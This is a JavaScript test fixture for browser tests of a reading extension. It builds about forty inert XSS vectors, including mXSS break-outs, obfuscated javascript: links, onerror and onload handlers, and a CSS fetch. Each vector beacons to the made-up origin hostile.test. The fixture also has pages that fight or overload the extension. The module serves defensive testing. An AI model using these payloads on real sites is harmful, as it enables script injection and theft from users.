// The hostile pages (issue 8), served by tests/browser/lib/hostile-server.mjs on the made-up
// origins http://hostile.test and http://third.test (the browsers reach them through the
// server acting as their proxy, which also records every request).
//
// Every XSS vector is inert on the page itself: text that looks like markup, URLs that need a
// click, handlers that need a pointer, markup in inert containers. It runs only if the reader
// turns it into live DOM. Running code calls B(id) (or, without the page's B, requests
// http://hostile.test/beacon/ID): the flag window.__xss and the beacon request must never happen.

export const ORIGIN = 'http://hostile.test';
export const THIRD = 'http://third.test';

const esc = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
/** JS that reports vector `id`, in any context (the page, a frame, an opaque origin). */
export const run = (id) => `(top.B||(n=>new Image().src='${ORIGIN}/beacon/'+n))(${id})`;
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

/**
 * The vectors: {id, kind, name, html}. `html` is how it sits in the article paragraph
 * "V<id> <name>: <html> ...".
 */
export const VECTORS = (() => {
  const v = [];
  const add = (kind, name, html) => v.push({ id: v.length + 1, kind, name, html: html(v.length + 1) });
  // Markup as text: rendered with innerHTML it would run.
  add('text', 'script tag as text', (n) => esc(`<script>${run(n)}</script>`));
  add('text', 'img onerror as text', (n) => esc(`<img src=x onerror="${run(n)}">`));
  add('text', 'svg onload as text', (n) => esc(`<svg onload="${run(n)}">`));
  add('text', 'iframe srcdoc as text', (n) => esc(`<iframe srcdoc="<script>${run(n)}</script>"></iframe>`));
  add('text', 'details ontoggle as text', (n) => esc(`<details open ontoggle="${run(n)}">`));
  add('text', 'mXSS noscript title break-out', (n) => esc(`<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`));
  add('text', 'mXSS math mglyph style', (n) => esc(`<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`));
  add('text', 'mXSS svg style', (n) => esc(`<svg></p><style><a id="</style><img src=1 onerror=${run(n)}>">`));
  add('text', 'CSS @import that fetches, as text', (n) => esc(`<style>@import url(${ORIGIN}/beacon/${n})</style>`));
  add('text', 'meta refresh as text', (n) => esc(`<meta http-equiv="refresh" content="0;url=${ORIGIN}/beacon/${n}">`));
  add('text', 'object data javascript: as text', (n) => esc(`<object data="javascript:${run(n)}"></object>`));
  add('text', 'template/img as text', (n) => esc(`<template><img src=x onerror=${run(n)}></template><img src=x onerror=${run(n)}>`));
  add('xmp', 'markup inside xmp (shown as text)', (n) => `<xmp><img src=x onerror="${run(n)}"></xmp>`);
  // Links: inert until clicked. The reader keeps only http, https and mailto.
  add('link', 'javascript: link', (n) => `<a href="javascript:${run(n)}">link ${n}</a>`);
  add('link', 'JaVaScRiPt: mixed case', (n) => `<a href="JaVaScRiPt:${run(n)}">link ${n}</a>`);
  add('link', 'leading spaces and javascript:', (n) => `<a href="  javascript:${run(n)}">link ${n}</a>`);
  add('link', 'tab inside java&#x09;script:', (n) => `<a href="java&#x09;script:${run(n)}">link ${n}</a>`);
  add('link', 'newline inside jav&#x0A;ascript:', (n) => `<a href="jav&#x0A;ascript:${run(n)}">link ${n}</a>`);
  add('link', 'entity-encoded &#106;avascript:', (n) => `<a href="&#106;avascript:${run(n)}">link ${n}</a>`);
  add('link', 'javascript&colon; entity', (n) => `<a href="javascript&colon;${run(n)}">link ${n}</a>`);
  add('link', 'data:text/html link', (n) => `<a href="data:text/html,&lt;script&gt;${run(n)}&lt;/script&gt;">link ${n}</a>`);
  add('link', 'vbscript: link', (n) => `<a href="vbscript:msgbox(${n})">link ${n}</a>`);
  add('link', 'https link with onclick handler', (n) => `<a href="https://example.com/ok-${n}" onclick="${run(n)}">link ${n}</a>`);
  // Images and frames: inert on the page (no src, or a scheme that never loads).
  add('image', 'img src javascript:', (n) => `<img src="javascript:${run(n)}" alt="img ${n}">`);
  add('image', 'lazy img data-src javascript:', (n) => `<img src="${GIF}" data-src="javascript:${run(n)}" alt="img ${n}">`);
  add('image', 'img srcset javascript:', (n) => `<img srcset="javascript:${run(n)} 1x" alt="img ${n}">`);
  add('image', 'img alt with markup', (n) => `<img src="${GIF}" alt="&lt;img src=x onerror=${run(n)}&gt;">`);
  add('frame', 'lazy iframe data-src javascript:', (n) => `<iframe data-src="javascript:${run(n)}" title="frame ${n}"></iframe>`);
  add('frame', 'sandboxed iframe srcdoc script', (n) => `<iframe sandbox srcdoc="&lt;script&gt;${run(n)}&lt;/script&gt;" title="frame ${n}"></iframe>`);
  // Forms: the reader has no forms.
  add('form', 'form action javascript:', (n) => `<form action="javascript:${run(n)}"><button>submit ${n}</button></form>`);
  add('form', 'button formaction javascript:', (n) => `<button form="nothing" formaction="javascript:${run(n)}">go ${n}</button>`);
  // SVG and MathML namespaces.
  add('svg', 'svg a href javascript:', (n) => `<svg width="60" height="20"><a href="javascript:${run(n)}"><text y="15">svg ${n}</text></a></svg>`);
  add('svg', 'svg a xlink:href javascript:', (n) => `<svg width="60" height="20"><a xlink:href="javascript:${run(n)}"><text y="15">xlink ${n}</text></a></svg>`);
  add('math', 'MathML maction href javascript:', (n) => `<math><mtext href="javascript:${run(n)}">math ${n}</mtext></math>`);
  // Handlers that need a pointer or focus.
  add('handler', 'onclick/onmouseover on a span', (n) => `<span onclick="${run(n)}" onmouseover="${run(n)}">hover ${n}</span>`);
  add('handler', 'onfocus on a focusable strong', (n) => `<strong tabindex="0" onfocus="${run(n)}">focus ${n}</strong>`);
  add('handler', 'onpointerenter on em', (n) => `<em onpointerenter="${run(n)}">pointer ${n}</em>`);
  // Inert containers in the article.
  add('inert', 'noscript with img onerror', (n) => `<noscript><img src=x onerror="${run(n)}"></noscript>`);
  add('inert', 'template with img onerror', (n) => `<template><img src=x onerror="${run(n)}"></template>`);
  add('inert', 'textarea with markup', (n) => `<textarea><img src=x onerror="${run(n)}"></textarea>`);
  add('css', 'style attribute that fetches (custom property)', (n) => `<span style="--bg:url(${ORIGIN}/beacon/${n})">styled ${n}</span>`);
  return v;
})();

const LOREM = [
  'The city council met on Tuesday to discuss the new budget, which includes money for roads, schools and parks.',
  'Residents who spoke at the meeting said the plan did not go far enough, and several asked for more bus routes.',
  '"We have heard the concerns and we will respond in the coming weeks," the mayor said in a statement after the vote.',
  'The budget passed by seven votes to two, with the two members against saying the tax rise was too steep.',
  'Officials expect the first projects to start in the spring, once contracts have been signed with builders.',
];

/** An ordinary news article: `extra` paragraphs are mixed in after every other paragraph. */
export function article({ title = 'Council passes budget after long debate', extra = [], paragraphs = 10 } = {}) {
  const out = [`<h1>${esc(title)}</h1>`, '<p class="byline">By A. Reporter</p>'];
  for (let i = 0; i < Math.max(paragraphs, extra.length * 2); i++) {
    out.push(`<p>${LOREM[i % LOREM.length]} (${i + 1})</p>`);
    if (i % 2 === 1 && extra[(i - 1) / 2] !== undefined) out.push(extra[(i - 1) / 2]);
  }
  return out.join('\n');
}

/** A clutter rail and an ad slot the engine hides. */
export const CLUTTER = `
<div id="div-gpt-ad-1" class="ad-slot advertisement" data-ad-unit="/1234/news/top">Advertisement</div>
<aside class="weather-widget"><h3>Weather</h3><p>Delhi 31°C, Humidity: 40%, See Today's Weather</p></aside>
<div id="div-gpt-ad-2" class="ad-slot advertisement" data-ad-unit="/1234/news/mid">Advertisement</div>`;

function doc({ title, head = '', body, script = '' }) {
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${esc(title)}</title>
<script>window.__xss = []; window.B = (n) => { window.__xss.push(n); new Image().src = '${ORIGIN}/beacon/' + n; };</script>
${head}
</head>
<body>
${body}
${script ? `<script>${script}</script>` : ''}
</body>
</html>`;
}

// ------------------------------------------------------------------------------------------------

function xss() {
  const extra = VECTORS.map((v) => `<p>V${v.id} ${esc(v.name)}: ${v.html} and the council went on with the meeting.</p>`);
  // Metadata the engine reads: title, JSON-LD, og:image, a refresh and a base that try their luck.
  const ld = JSON.stringify({
    '@context': 'https://schema.org', '@type': 'NewsArticle',
    headline: `Council budget <img src=x onerror=${run(101)}>`,
    author: { '@type': 'Person', name: `<svg onload=${run(102)}>` },
    image: `javascript:${run(103)}`,
    datePublished: '2024-05-07T10:00:00Z',
  }).replace(/</g, '\\u003c');
  const head = `
<meta property="og:image" content="javascript:${run(104)}">
<meta property="og:site_name" content="&lt;img src=x onerror=${esc(run(105))}&gt;">
<meta name="author" content="&lt;script&gt;${esc(run(106))}&lt;/script&gt;">
<meta http-equiv="refresh" content="3600;url=javascript:${esc(run(107))}">
<script type="application/ld+json">${ld}</script>`;
  const body = `${CLUTTER}
<main><article>
<base href="javascript:${esc(run(108))}//">
${article({ extra, title: `Council passes budget <img src=x onerror=${run(109)}>` })}
<p><a href="/story/relative-link">A relative link</a> and <a href="mailto:desk@hostile.test">a mail link</a> and
<a href="https://example.com/story">an https link</a> stay links.</p>
</article></main>`;
  return doc({ title: 'Council passes budget', head, body });
}

// Pages that fight back -----------------------------------------------------------------------

// Removes our marks and our stylesheet as soon as they appear, forever; counts its own work.
const FIGHT_MARKS = `
window.fights = 0;
new MutationObserver(() => {
  for (const el of document.querySelectorAll('[data-tidings-hidden]')) { el.removeAttribute('data-tidings-hidden'); el.removeAttribute('data-tidings-reason'); window.fights++; }
  for (const s of document.querySelectorAll('style[data-tidings-ui]')) { s.remove(); window.fights++; }
}).observe(document.documentElement, { subtree: true, attributes: true, childList: true });`;

// Forces its ads visible with inline display:block !important, on every change and every 50 ms.
const FIGHT_INLINE = `
window.fights = 0;
const force = () => { for (const el of document.querySelectorAll('.ad-slot, .weather-widget')) { if (el.style.getPropertyPriority('display') !== 'important') { el.style.setProperty('display', 'block', 'important'); window.fights++; } } };
force(); setInterval(force, 50);
new MutationObserver(force).observe(document.documentElement, { subtree: true, attributes: true });`;

// Mutates the DOM without pause: adds and removes elements every few ms, for ever.
const FIGHT_MUTATE = `
window.ticks = 0;
const box = document.getElementById('churn');
const tick = () => {
  window.ticks++;
  const d = document.createElement('div');
  d.className = 'ad-slot advertisement'; d.textContent = 'Advertisement ' + window.ticks;
  box.append(d);
  if (box.children.length > 20) box.firstElementChild.remove();
  document.title = 'tick ' + window.ticks;
};
setInterval(tick, 4);
(function loop() { tick(); requestAnimationFrame(loop); })();`;

function fight(script, title) {
  return doc({ title, body: `${CLUTTER}<main><article>${article({ title })}</article></main><div id="churn"></div>`, script });
}

// A page with frames: a same-origin frame and a cross-origin frame, both with articles.
function frames() {
  return doc({
    title: 'Frames',
    body: `${CLUTTER}<main><article>${article({ title: 'The page around the frames' })}</article></main>
<iframe id="same" src="/frame-article.html" width="600" height="300" title="same origin"></iframe>
<iframe id="cross" src="${THIRD}/frame-article.html" width="600" height="300" title="cross origin"></iframe>`,
  });
}

function frameArticle() {
  return doc({ title: 'Framed article', body: `${CLUTTER}<main><article>${article({ title: 'An article inside a frame' })}</article></main>` });
}

function frameset() {
  return `<!DOCTYPE html><html><head><title>Frameset</title></head>
<frameset cols="50%,50%"><frame src="/frame-article.html"><frame src="${THIRD}/frame-article.html"></frameset></html>`;
}

// The hostile page loaded inside a frame of another site's page.
function framedHostile() {
  return doc({ title: 'Outer', body: `<p>Outer page.</p><iframe src="${ORIGIN}/fight-marks.html" width="800" height="600" title="inner"></iframe>` });
}

function trustedTypes() {
  // Served with Content-Security-Policy: require-trusted-types-for 'script' (see HEADERS).
  const script = `
window.violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
window.ttCheck = (() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return 'innerHTML allowed'; } catch (e) { return 'innerHTML blocked'; } })();`;
  return doc({ title: 'Trusted Types', body: `${CLUTTER}<main><article>${article({ title: 'Trusted Types are enforced here' })}</article></main>`, script });
}

// Restoring: a focused field, a scroll position, clutter to hide and show again.
function restore() {
  return doc({
    title: 'Restore',
    body: `${CLUTTER}<header><input id="search" value="typed text" aria-label="Search"></header>
<main><article>${article({ title: 'Everything comes back', paragraphs: 40 })}</article></main>${CLUTTER.replace(/-1"/, '-3"').replace(/-2"/, '-4"')}`,
  });
}

// Past the hard limits, built by script (the HTML parser caps nesting; the DOM does not). The
// boxes are hidden: Chromium's own layout hangs on a 6,000-deep visible tree, extension or not.
function deep() {
  const script = `
let el = document.getElementById('deep');
for (let i = 0; i < 6000; i++) { const d = document.createElement('div'); el.append(d); el = d; }
el.textContent = 'the bottom';`;
  return doc({ title: 'Deep', body: `${CLUTTER}<main><article>${article({ title: 'A page nested 6,000 deep' })}</article></main><div id="deep" hidden></div>`, script });
}

function huge() {
  const script = `
const box = document.getElementById('huge');
const frag = document.createDocumentFragment();
for (let i = 0; i < 210000; i++) { const s = document.createElement('span'); s.textContent = 'x'; frag.append(s); }
box.append(frag);`;
  return doc({ title: 'Huge', body: `${CLUTTER}<main><article>${article({ title: 'A page with 420,000 nodes' })}</article></main><div id="huge" hidden></div>`, script });
}

function plain() {
  return doc({ title: 'Plain', body: `${CLUTTER}<main><article>${article({ title: 'An ordinary page after the hostile ones' })}</article></main>` });
}

/**
 * Paths the browser itself asks for while loading these pages: its favicon, and (Firefox's
 * speculative parser) the <img src=x> it finds in the XSS page's <noscript> and <template>
 * before the tree builder makes them inert. The XSS test checks they come before the reader.
 */
export const PAGE_OWN = new Set(['/favicon.ico', '/x', '/1']);

/** path → {html, headers?} */
export const PAGES = {
  '/xss.html': { html: xss },
  '/fight-marks.html': { html: () => fight(FIGHT_MARKS, 'A page that removes our marks') },
  '/fight-inline.html': { html: () => fight(FIGHT_INLINE, 'A page that forces display important') },
  '/fight-mutate.html': { html: () => fight(FIGHT_MUTATE, 'A page that never stops changing') },
  '/trusted-types.html': { html: trustedTypes, headers: { 'Content-Security-Policy': "require-trusted-types-for 'script'" } },
  '/frames.html': { html: frames },
  '/frame-article.html': { html: frameArticle },
  '/frameset.html': { html: frameset },
  '/framed-hostile.html': { html: framedHostile },
  '/restore.html': { html: restore },
  '/deep.html': { html: deep },
  '/huge.html': { html: huge },
  '/plain.html': { html: plain },
  '/tidings-test-panic.html': { html: () => doc({ title: 'Panic', body: `${CLUTTER}<main><article>${article({ title: 'The engine panics on this page (test builds only)' })}</article></main>` }) },
  '/strict/tidings-test-panic.html': { html: () => doc({ title: 'Panic', body: `<main><article>${article({ title: 'Panic under a strict CSP' })}</article></main>` }).replace(/<script>window.__xss[^\n]*\n/, ''), headers: { 'Content-Security-Policy': "default-src 'self'; script-src 'self'" } },
  '/strict/plain.html': { html: () => plain().replace(/<script>window.__xss[^\n]*\n/, ''), headers: { 'Content-Security-Policy': "default-src 'self'; script-src 'self'" } },
};
